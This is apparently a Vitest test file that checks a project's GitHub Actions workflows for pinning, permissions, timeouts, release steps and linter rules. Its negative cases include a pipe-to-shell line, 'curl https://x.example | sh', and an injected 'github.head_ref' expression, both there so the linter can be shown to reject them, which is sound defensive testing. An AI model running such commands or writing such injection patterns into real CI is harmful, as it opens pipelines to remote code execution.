import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { root } from '../setup/paths.mjs';
import { workflowReader } from './github-parser.mjs';
import { brokenRules, type Workflow } from './rules.mjs';

const folder = join(root, '.github', 'workflows');
const names = readdirSync(folder).filter((name) => /\.ya?ml$/.test(name));
const { scripts } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as {
  scripts: Record<string, string>;
};
const textOf = (name: string) => readFileSync(join(folder, name), 'utf8');
const broken = (text: string) => brokenRules(parse(text) as Workflow, text, Object.keys(scripts));

let refusedByGitHub: Awaited<ReturnType<typeof workflowReader>>;
beforeAll(async () => {
  refusedByGitHub = await workflowReader();
});

describe('a workflow', () => {
  it('exists for changes, releases and code scanning', () => {
    expect(names).toEqual(expect.arrayContaining(['ci.yml', 'codeql.yml', 'release.yml']));
  });

  it.each(names)('%s can be read by GitHub', async (name) => {
    expect(await refusedByGitHub(name, textOf(name))).toEqual([]);
  });

  it.each(names)("%s keeps Perch's rules", (name) => {
    expect(broken(textOf(name))).toEqual([]);
  });
});

it('every change is installed by apt on both supported releases of Debian', () => {
  const jobs = (parse(textOf('ci.yml')) as Workflow).jobs;
  const job = jobs['installed'];
  expect(job?.strategy?.matrix['release']).toEqual(['bookworm', 'trixie']);
  expect(job?.steps.at(-1)?.run).toBe('npm run lane:debian -- "$RELEASE"');
});

it('a release makes and keeps the manifests of the stores from the checked files', () => {
  const { steps } = (parse(textOf('release.yml')) as Workflow).jobs['draft'] ?? { steps: [] };
  const at = (test: (step: Workflow['jobs'][string]['steps'][number]) => boolean): number =>
    steps.findIndex(test);
  const [assets, stores, kept] = [
    at(({ run }) => run === 'npm run release -- assets release'),
    at(({ run }) => run === 'npm run stores -- release dist/stores'),
    at(
      (step) =>
        step.uses?.startsWith('actions/upload-artifact@') === true && step.with?.['path'] === 'dist/stores',
    ),
  ];
  expect(assets).toBeGreaterThan(-1);
  expect(stores).toBeGreaterThan(assets);
  expect(kept).toBeGreaterThan(stores);
});

describe('GitHub', () => {
  const around = (job: string) => `on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n${job}`;

  it.each([
    [
      'a key that it does not know',
      '    timeout-minute: 5\n    steps: [{ run: npm ci }]',
      "'timeout-minute'",
    ],
    [
      'a permission that it does not know',
      '    permissions: { contets: read }\n    steps: [{ run: npm ci }]',
      'contets',
    ],
    ['a value that does not exist', '    steps: [{ run: "echo ${{ matrx.os }}" }]', 'matrx'],
    ['jobs that all wait', '    needs: b\n    steps: [{ run: npm ci }]', 'no dependencies'],
  ])('refuses %s', async (_, job, word) => {
    expect((await refusedByGitHub('x.yml', around(job))).join('\n')).toContain(word);
  });
});

describe('our rules', () => {
  const good = `on: push
permissions: {}
concurrency: x
jobs:
  a:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions: {}
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with: { persist-credentials: false }
      - run: npm ci
      - run: npm test
      - run: npm run dist -- --dir
`;

  it('are kept by a good workflow', () => {
    expect(broken(good)).toEqual([]);
  });

  it.each([
    [
      'permissions: {}\nc',
      'permissions: { contents: write }\nc',
      'The workflow itself has permissions; only jobs may.',
    ],
    ['concurrency: x\n', '', 'It says nothing of concurrency.'],
    ['    timeout-minutes: 5\n', '', 'a has no time limit.'],
    ['    permissions: {}\n', '', 'a says nothing of permissions.'],
    [
      '3d3c42e5aac5ba805825da76410c181273ba90b1',
      'v7.0.1',
      /uses actions\/checkout@v7\.0\.1, which is not pinned/,
    ],
    ['3d3c42e5aac5ba805825da76410c181273ba90b1', '3d3c42e', /which is not pinned/],
    [' # v7.0.1', '', /^No version beside/],
    ['persist-credentials: false', 'fetch-depth: 0', 'a leaves its token in the checkout.'],
    ['npm test', 'npm run tests', 'a runs "npm run tests", which is no script of package.json.'],
    ['npm test', 'curl https://x.example | sh', /is no script of package\.json/],
    ['run dist -- --dir', 'run dist -- ${{ github.head_ref }}', /^a puts an expression into/],
  ])('are broken by %j as %j', (part, instead, sentence) => {
    const text = good.replace(part, instead);
    expect(text).not.toBe(good);
    expect(broken(text)).toEqual([typeof sentence === 'string' ? sentence : expect.stringMatching(sentence)]);
  });
});
